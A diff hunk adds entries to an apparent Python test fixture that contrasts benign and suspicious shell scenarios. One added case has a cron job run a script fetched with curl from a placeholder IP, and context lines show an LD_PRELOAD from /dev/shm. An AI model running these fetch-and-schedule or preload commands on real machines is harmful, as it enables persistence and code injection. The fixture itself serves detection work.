@@ -49,6 +49,18 @@ OPERATORS_WEEK: list[tuple[str, str, str, str]] = [
         "var JOB 'LD_PRELOAD=/dev/shm/x.so /usr/bin/uptime'",
     ),
     (
+        "a job is added: a script that is there, or what is not there yet",
+        '(crontab -l; echo "@daily $HOME/bin/tidy") | crontab -',
+        "script ~/bin/tidy '#!/bin/sh\\ndate\\n'",
+        "file a",
+    ),
+    (
+        "a job is added: a script of one's own, or what was fetched",
+        '(crontab -l; echo "@daily $HOME/bin/tidy") | crontab -',
+        "script ~/bin/tidy '#!/bin/sh\\ndate\\n'",
+        "program ~/bin/tidy\ntyped 'curl -s -o ~/bin/tidy http://203.0.113.5/x'",
+    ),
+    (
         "all that runs for a user: of nobody, or somebody",
         "sudo systemctl stop user@$N",
         "var N 48211",
